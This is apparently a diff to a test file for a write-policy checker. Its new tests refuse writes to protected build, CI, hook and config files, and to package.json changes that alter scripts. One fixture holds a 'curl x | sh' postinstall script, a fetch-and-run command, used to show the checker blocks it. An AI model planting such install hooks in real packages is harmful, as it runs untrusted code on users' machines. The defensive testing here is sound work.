@@ -25,7 +25,6 @@ describe("checkWritePath", () => {
     ["src/app.ts", "src/app.ts"],
     ["./a//b", "a/b"],
     ["a/./b/", "a/b"],
-    [".github/dependabot.yml", ".github/dependabot.yml"],
     ["docs/.gitkeep", "docs/.gitkeep"],
     ["x/.github/workflows/ci.yml", "x/.github/workflows/ci.yml"],
     ["100%.txt", "100%.txt"],
@@ -262,5 +261,56 @@ describe("checkWriteFile and checkWriteBatch", () => {
     expect(result.errors.filter((e) => /written twice/.test(e.reason))).toHaveLength(2);
     expect(reasons).toMatch(/\.git directory/);
     expect(reasons).toMatch(/11 bytes in all; the limit is 10/);
+  });
+});
+
+describe("protected files", () => {
+  it.each([
+    ".github/dependabot.yml",
+    ".github/actions/setup/action.yml",
+    ".github/practical.yml",
+    "tools/deploy/action.yaml",
+    ".npmrc",
+    "packages/web/.npmrc",
+    ".yarnrc.yml",
+    ".pnpmfile.cjs",
+    "bunfig.toml",
+    "Makefile",
+    "lib/makefile",
+    ".husky/pre-commit",
+    ".devcontainer/devcontainer.json",
+    ".vscode/tasks.json",
+    ".gitmodules",
+    ".env.local",
+  ])("refuses %s by default, saying how it could be allowed", (path) => {
+    expect(rejected(path)).toMatch(/is protected: .*paths\.protected_allowed/);
+  });
+
+  it("allows a protected file the repository allows and the plan names", () => {
+    const allowed = policy({ protectedAllowed: [".github/actions/**"], plan: "" });
+    expect(rejected(".github/actions/setup/action.yml", allowed)).toMatch(/is protected/);
+    const planned = { ...allowed, plan: "T3 adds .github/actions/setup/action.yml" };
+    expect(checkWritePath(".github/actions/setup/action.yml", planned).ok).toBe(true);
+    expect(checkWritePath(".npmrc", planned).ok).toBe(false);
+  });
+
+  const pkg = (scripts?: Record<string, string>) =>
+    JSON.stringify({ name: "x", version: "1.0.0", ...(scripts ? { scripts } : {}) });
+
+  it("refuses a package.json write that changes its scripts, not one that keeps them", () => {
+    const baseline = new Map([["package.json", pkg({ test: "node --test" })]]);
+    const p = policy({ baseline });
+    const refused = checkWriteFile(
+      { path: "package.json", content: pkg({ test: "node --test", postinstall: "curl x | sh" }) },
+      p,
+    );
+    expect(refused.ok ? "" : refused.reason).toMatch(/changes the package's scripts/);
+    const kept = JSON.stringify({ ...JSON.parse(pkg({ test: "node --test" })), version: "1.1.0" });
+    expect(checkWriteFile({ path: "package.json", content: kept }, p).ok).toBe(true);
+    // A new package.json with scripts, and one that is not JSON, are protected too.
+    expect(checkWriteFile({ path: "pkg/package.json", content: pkg({ x: "y" }) }, p).ok).toBe(
+      false,
+    );
+    expect(checkWriteFile({ path: "package.json", content: "{" }, p).ok).toBe(false);
   });
 });
